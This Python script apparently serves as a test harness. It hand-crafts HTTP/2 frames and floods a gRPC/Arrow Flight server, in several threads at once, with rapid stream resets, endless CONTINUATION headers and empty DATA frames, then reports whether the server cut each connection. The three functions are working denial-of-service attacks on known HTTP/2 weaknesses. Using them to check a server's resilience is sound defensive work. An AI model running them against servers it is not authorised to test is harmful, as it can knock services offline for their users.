"""HTTP/2 as no client speaks it; as a program several of it at once, so that they have a process, and its lock, of their own."""

import contextlib
import json
import os
import socket
import struct
import sys
import threading
from collections.abc import Iterator

from varint import varint

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
AT_ONCE = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header without indexing (RFC 7541, section 6.2.2)."""
    return b"\x00" + sized(name.encode()) + sized(value.encode())


def sized(text: bytes) -> bytes:
    """A string as it is, behind its length (sections 5.1 and 5.2)."""
    return (bytes([len(text)]) if len(text) < 127 else b"\x7f" + varint(len(text) - 127)) + text


def call(path: str, **more: str) -> bytes:
    """The headers of a call: of Flight by its name, or of a page."""
    path = path if path.startswith("/") else f"/arrow.flight.protocol.FlightService/{path}"
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "a",
        "te": "trailers",
        "content-type": "application/grpc",
        **more,
    }
    return b"".join(literal(*header) for header in headers.items())


class Raw:
    """A connection by hand."""

    def __init__(self, address: str, settings: bytes = b"") -> None:
        host, port = address.split(":")
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self) -> "Raw":
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> bool:
        """Whether the other side still takes it."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        """What the other side says until it ends the connection: kind, flags, stream and payload of each frame."""
        with contextlib.suppress(ConnectionError), self.socket.makefile("rb") as said:
            while len(head := said.read(9)) == 9:
                yield head[3], head[4], int.from_bytes(head[5:]), said.read(int.from_bytes(head[:3]))

    def is_closed(self, within: float = 20) -> bool:
        """Whether the other side ends the connection; reads what it says until then."""
        self.socket.settimeout(within)
        try:
            while self.socket.recv(1 << 16):
                pass
        except TimeoutError:
            return False
        except OSError:
            return True
        return True


def rapid_reset(address: str, path: str) -> bool:
    with Raw(address) as raw:
        for stream in range(1, 40_000, 2):
            reset = frame(RESET, 0, stream, struct.pack(">I", 8))
            if not raw.send(frame(HEADERS, END_HEADERS, stream, call(path)) + reset):
                return True
        return raw.is_closed()


def endless_headers(address: str, path: str) -> bool:
    with Raw(address) as raw:
        raw.send(frame(HEADERS, 0, 1, call(path)))
        more = frame(CONTINUATION, 0, 1, b"".join(literal(f"x-{number}", "v" * 100) for number in range(100)))
        for _ in range(20_000):
            if not raw.send(more):
                return True
        return raw.is_closed()


def empty_data(address: str, path: str) -> bool:
    """Nothing limits them but that each costs what it costs: the call is answered in the end, or the connection is closed."""
    with Raw(address) as raw:
        raw.send(frame(HEADERS, END_HEADERS, 1, call(path)))
        nothing = frame(DATA, 0, 1) * 1_000
        for _ in range(200):
            if not raw.send(nothing):
                return True
        raw.send(frame(DATA, END_STREAM, 1))
        with contextlib.suppress(TimeoutError):
            return next((kind == HEADERS for kind, _, stream, _ in raw.frames() if stream == 1), True)
        return False


ABUSES = {abuse.__name__: abuse for abuse in (rapid_reset, endless_headers, empty_data)}


def main(name: str, address: str, path: str) -> None:
    """Goes on until its input ends, then says how often an abuse came to an end, and whether each did."""
    # Who sends is at another machine: what it costs there is taken from nobody here.
    os.nice(19)
    over, ended = threading.Event(), []

    def again() -> None:
        while not over.is_set():
            with contextlib.suppress(ConnectionError):
                ended.append(ABUSES[name](address, path))

    workers = [threading.Thread(target=again) for _ in range(AT_ONCE)]
    for worker in workers:
        worker.start()
    print("begun", flush=True)
    sys.stdin.read()
    over.set()
    for worker in workers:
        worker.join(60)
    print(json.dumps({"ended": len(ended), "all": all(ended) and not any(worker.is_alive() for worker in workers)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
